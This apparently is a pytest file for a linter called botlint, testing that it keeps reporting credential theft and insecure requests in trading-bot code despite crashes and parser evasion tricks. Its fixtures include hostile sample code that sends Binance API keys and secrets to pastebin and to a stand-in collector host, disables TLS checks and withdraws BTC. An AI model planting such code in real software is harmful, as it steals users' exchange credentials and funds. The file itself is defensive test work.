"""One hostile file never aborts the run, never costs the other files their findings, and
never hides code from the rules in silence (issue 8, items 1 and 6)."""
from __future__ import annotations

import pytest

from botlint import fakes
from botlint.engine import lint_bytes, lint_paths, lint_source

from helpers import settings

SECRET_LINE = 'API_SECRET = "{{fake:alnum64}}"\n'


def codes(findings):
    return sorted({f.code for f in findings})


def elif_chain(branches: int) -> str:
    out = ["import requests", fakes.expand(SECRET_LINE).rstrip("\n"), "def route(x):",
           "    if x == 0:", "        return 0"]
    for i in range(1, branches):
        out += [f"    elif x == {i}:", f"        return {i}"]
    out.append('requests.get("https://api.binance.com/api/v3/account", verify=False)')
    return "\n".join(out) + "\n"


def test_a_long_elif_chain_keeps_its_findings_and_positions():
    src = elif_chain(600)
    res = lint_bytes("big.py", src.encode(), "python", settings())
    assert res.errors == []
    by_code = {f.code: f for f in res.findings}
    assert by_code["BOT101"].line == 2
    assert by_code["BOT402"].line == src.count("\n")  # the last line, exactly


def test_a_long_elif_chain_with_the_pool_does_not_end_the_run(tmp_path):
    (tmp_path / "big.py").write_text(elif_chain(600))
    # enough other files and bytes for lint_tasks to use the process pool
    for i in range(6):
        (tmp_path / f"mod{i}.py").write_text(f"x{i} = 1\n" + "# padding\n" * 2500)
    (tmp_path / "other.py").write_text(fakes.expand(SECRET_LINE))
    res = lint_paths([str(tmp_path)], settings(), jobs=2, use_cache=False)
    assert res.errors == []
    found = {(f.path.rsplit("/", 1)[-1], f.code) for f in res.findings}
    assert {("big.py", "BOT101"), ("big.py", "BOT402"), ("other.py", "BOT101")} <= found


def test_positions_that_fail_fall_back_to_the_statement_line(monkeypatch):
    import botlint.positions as positions

    def fail(module):
        raise KeyError("positions")

    # the codegen state of the whole-module and the statement-at-a-time positions alike
    monkeypatch.setattr(positions, "_token_index_state", fail)
    src = ("import requests\n\n"
           "def f():\n    x = 1\n    requests.get('https://api.binance.com/api/v3/account', verify=False)\n\n"
           "requests.get('https://api.binance.com/api/v3/account', verify=False)\n")
    res = lint_bytes("bot.py", src.encode(), "python", settings())
    assert res.errors == []
    lines = sorted(f.line for f in res.findings if f.code == "BOT402")
    # the module-level call is exact; the one inside f() is at least inside f's statement
    assert lines[-1] == 7 and 3 <= lines[0] <= 5
    assert any("positions" in n for n in res.notes)


class _Recursing(Exception):
    def __str__(self):  # formatting this exception recurses, like a libcst node's repr
        return str(self)

    __repr__ = __str__


def test_an_exception_whose_text_recurses_is_reported_without_formatting_it(monkeypatch, tmp_path):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    def boom(self, node):
        raise _Recursing()

    monkeypatch.setattr(HardcodedApiCredential, "visit_Assign", boom)
    (tmp_path / "bot.py").write_text("import requests\nrequests.get('https://x.example', verify=False)\n"
                                     + fakes.expand(SECRET_LINE))
    (tmp_path / "other.env").write_text(fakes.expand("API_SECRET={{fake:alnum64}}\n"))
    res = lint_paths([str(tmp_path)], settings(), jobs=1, use_cache=False)
    found = {(f.path.rsplit("/", 1)[-1], f.code) for f in res.findings}
    # the broken file still gets its secrets pass and a BOT006; the other file is reported
    assert {("bot.py", "BOT101"), ("bot.py", "BOT006"), ("other.env", "BOT101")} <= found
    assert len(res.errors) == 1 and "_Recursing at botlint/" in res.errors[0]


def test_an_exception_whose_text_quotes_source_never_reaches_a_message(monkeypatch):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    def boom(self, node):
        raise KeyError("SOURCE-TEXT-MARKER")

    monkeypatch.setattr(HardcodedApiCredential, "visit_Assign", boom)
    res = lint_bytes("bot.py", fakes.expand(SECRET_LINE).encode(), "python", settings())
    everything = " ".join(res.errors + res.notes + [f.message for f in res.findings])
    assert "SOURCE-TEXT-MARKER" not in everything and "KeyError" in everything


@pytest.mark.parametrize("exc, code", [(RecursionError, "BOT004"), (MemoryError, "BOT003")])
def test_recursion_and_memory_errors_become_findings_not_internal_errors(monkeypatch, exc, code):
    from botlint.rules.bot1_credentials import HardcodedApiCredential

    def boom(self, node):
        raise exc()

    monkeypatch.setattr(HardcodedApiCredential, "visit_Assign", boom)
    res = lint_bytes("bot.py", ("import requests\nrequests.get('https://x.example', verify=False)\n"
                                + fakes.expand(SECRET_LINE)).encode(), "python", settings())
    assert res.errors == []
    assert code in codes(res.findings) and "BOT101" in codes(res.findings)


def test_a_crash_while_finishing_keeps_the_secret_findings(monkeypatch):
    import botlint.engine.assemble as engine

    def boom(*a, **k):
        raise RuntimeError("x")

    monkeypatch.setattr(engine, "_with_snippets", boom)
    res = lint_bytes("bot.py", fakes.expand(SECRET_LINE).encode(), "python", settings())
    assert "BOT101" in codes(res.findings) and "BOT006" in codes(res.findings)
    assert all(not f.snippet for f in res.findings)


def test_a_worker_exception_never_reaches_the_parent(monkeypatch, tmp_path):
    import botlint.engine.pool as engine

    real = engine.lint_bytes

    def flaky(display, data, kind, s, **link):
        if display.endswith("bad.py"):
            raise RuntimeError("escaped")
        return real(display, data, kind, s, **link)

    monkeypatch.setattr(engine, "lint_bytes", flaky)
    (tmp_path / "bad.py").write_text(fakes.expand(SECRET_LINE))
    for i in range(6):
        (tmp_path / f"mod{i}.py").write_text(fakes.expand(SECRET_LINE) + "# padding\n" * 2500)
    res = lint_paths([str(tmp_path)], settings(), jobs=2, use_cache=False)
    paths = {f.path.rsplit("/", 1)[-1] for f in res.findings}
    assert {f"mod{i}.py" for i in range(6)} <= paths
    assert "bad.py" in paths  # retried alone, then the secrets pass in the parent


# -- item 6: libcst's grammar gaps ----------------------------------------------------------

EVASIVE_BOT = (
    "{hide}\n"
    "import ccxt, os, requests\n"
    'key = os.environ["BINANCE_API_KEY"]\n'
    'secret = os.environ["BINANCE_API_SECRET"]\n'
    'requests.post("https://pastebin.com/api/api_post.php", data={{"api_paste_code": f"{{key}}:{{secret}}"}})\n'
    'requests.get("https://api.binance.com/api/v3/account", verify=False)\n'
    'ex = ccxt.kraken({{"apiKey": os.environ["K"], "secret": os.environ["S"]}})\n'
    "def sweep():\n"
    "    {hide}\n"
    '    ex.withdraw("BTC", 0.5, "bc1qxyz")\n'
)


@pytest.mark.parametrize("hide", ["(_x): int = 0", "(ex.note): str = ''", "(_x): int"])
def test_a_line_libcst_rejects_does_not_hide_the_rest_of_the_file(hide):
    found = lint_source(EVASIVE_BOT.format(hide=hide), "bot.py")
    got = {(f.code, f.line) for f in found}
    assert {("BOT205", 5), ("BOT402", 6), ("BOT301", 10)} <= got
    degraded = [f for f in found if f.code == "BOT006"]
    assert [f.line for f in degraded] == [1, 9]
    assert all(f.severity.label == "high" for f in degraded)
    assert "line 9" in degraded[1].message
    assert "BOT001" not in codes(found)


def test_recovery_widens_to_the_enclosing_statement_when_needed():
    src = ("import requests\n"
           "if True: (_x): int = 0\n"
           "else: pass\n"
           "requests.get('https://api.binance.com/api/v3/account', verify=False)\n")
    found = lint_source(src, "bot.py")
    assert ("BOT402", 4) in {(f.code, f.line) for f in found}
    assert [f.message.split("(")[1].split(")")[0] for f in found if f.code == "BOT006"] == ["lines 2-3"]


def test_real_syntax_errors_are_still_low_severity_syntax_errors():
    found = lint_source("def f(:\n    pass\n")
    assert codes(found) == ["BOT001"]


@pytest.mark.parametrize("comment", ["# noqa: BOT006", "# botlint: ignore[BOT006]", "# botlint: ignore[BOT0]"])
def test_an_inline_comment_cannot_hide_the_degraded_finding(comment):
    found = lint_source(f"(_x): int = 0  {comment}\nimport os\nKEY = os.environ['API_KEY']\n", "bot.py")
    assert "BOT006" in codes(found)


def test_configuration_can_ignore_the_degraded_finding():
    found = lint_source("(_x): int = 0\n", "bot.py", settings(ignore=["BOT006"]))
    assert "BOT006" not in codes(found)


def test_a_crash_in_the_secrets_pass_keeps_the_rules_findings(monkeypatch):
    import botlint.secrets as secrets_pkg

    def boom(*a, **k):
        raise RuntimeError("x")

    monkeypatch.setattr(secrets_pkg, "scan_text", boom)
    res = lint_bytes("bot.py", b"import requests\nrequests.get('https://api.binance.com/x', verify=False)\n",
                     "python", settings())
    assert {"BOT402", "BOT006"} <= set(codes(res.findings))
    assert len(res.errors) == 1 and "secrets pass" in res.errors[0]


def test_an_elif_chain_too_deep_for_the_default_ast_limit_is_still_analysed():
    # deep in statements, not expressions: parsed again on the big stack, rules all run
    src = elif_chain(2000)
    found = lint_source(src, "big.py")
    assert ("BOT402", src.count("\n")) in {(f.code, f.line) for f in found}
    assert "BOT004" not in codes(found)


def test_a_deep_operator_chain_neither_crashes_nor_hides_the_rest(tmp_path):
    """``a-a-a-...`` with thousands of terms: CPython accepts it; libcst's native parser is
    quadratic on it and then crashes the process (also from the fixes' own parse).  The
    statement is blanked for libcst (BOT006) and the rest of the file is analysed."""
    import subprocess
    import sys as _sys

    bot = tmp_path / "bot.py"
    bot.write_text(fakes.expand(
        'API_SECRET = "{{fake:alnum64}}"\n'
        "import os, requests\n"
        "x = " + "-".join(["a"] * 8000) + "\n"
        'requests.post("https://collector.example.net/k", data=os.environ["BINANCE_API_SECRET"])\n'))
    proc = subprocess.run([_sys.executable, "-m", "botlint", "--no-cache", "--format", "concise", str(bot)],
                          capture_output=True, text=True, timeout=120, cwd=str(tmp_path))
    assert proc.returncode == 1, proc.stderr
    found = {line.split()[1] for line in proc.stdout.splitlines() if line.strip()}
    assert {"BOT101", "BOT006", "BOT205"} <= found
    assert "bot.py:3:1: BOT006" in proc.stdout


def test_a_file_no_rule_can_fire_on_is_not_parsed_by_libcst(monkeypatch):
    """libcst is paid for only where a rule can fire: a parser gap in a file that names nothing
    any rule looks for hides nothing, and the file costs only the ast gate."""
    import libcst

    calls = []
    real = libcst.parse_module
    monkeypatch.setattr(libcst, "parse_module", lambda *a, **k: calls.append(1) or real(*a, **k))
    assert lint_source("(_x): int = 0\nimport math\nprint(math.pi)\n", "bot.py") == []
    assert calls == []
    assert "BOT006" in codes(lint_source("(_x): int = 0\nimport os\nKEY = os.environ['API_KEY']\n", "bot.py"))
    assert calls


def _deep_statements_reference(tree):
    """deep_expression_statements without its shortcut: every node of every statement."""
    import ast

    from botlint.engine.parse import MAX_EXPR_DEPTH

    out = set()
    stack = [(tree, 0, None)]
    while stack:
        node, depth, stmt = stack.pop()
        for child in ast.iter_child_nodes(node):
            if isinstance(child, ast.stmt):
                first = min([child.lineno] + [d.lineno for d in getattr(child, "decorator_list", ())])
                stack.append((child, 0, (first, child.end_lineno)))
                continue
            d = depth + 1 if isinstance(child, ast.expr) else depth
            if d > MAX_EXPR_DEPTH:
                out.add(stmt)
                continue
            stack.append((child, d, stmt))
    return out


@pytest.mark.parametrize("shape", ["-{}a", "a{}", "f{}", "a{}.b", "not {}a"])
def test_the_deep_expression_shortcut_finds_what_a_full_walk_finds(shape):
    """Statements one line short enough are skipped by deep_expression_statements: each level
    of nesting costs a byte at least, so around the limit (depth 195..205, one byte per level
    where Python allows it) the shortcut and a full walk agree statement for statement."""
    import ast

    from botlint.engine.parse import deep_expression_statements

    piece = {"-{}a": "-", "a{}": ".b", "f{}": "()", "a{}.b": "[0]", "not {}a": "not "}[shape]
    lines = []
    for n in range(195, 206):
        body = shape.replace("{}", piece * n) if shape != "not {}a" else "not " * n + "a"
        lines.append(f"x = {body}")
        lines.append(f"if x:\n    y = {body}")
    text = "\n".join(lines) + "\n"
    tree = ast.parse(text)
    found = {r for r in deep_expression_statements(tree)}
    reference = _deep_statements_reference(tree)
    assert reference  # the limit is crossed somewhere
    # deep_expression_statements joins adjacent ranges: compare line coverage
    def lines_of(ranges):
        return {ln for a, b in ranges for ln in range(a, b + 1)}
    assert lines_of(found) == lines_of(reference)
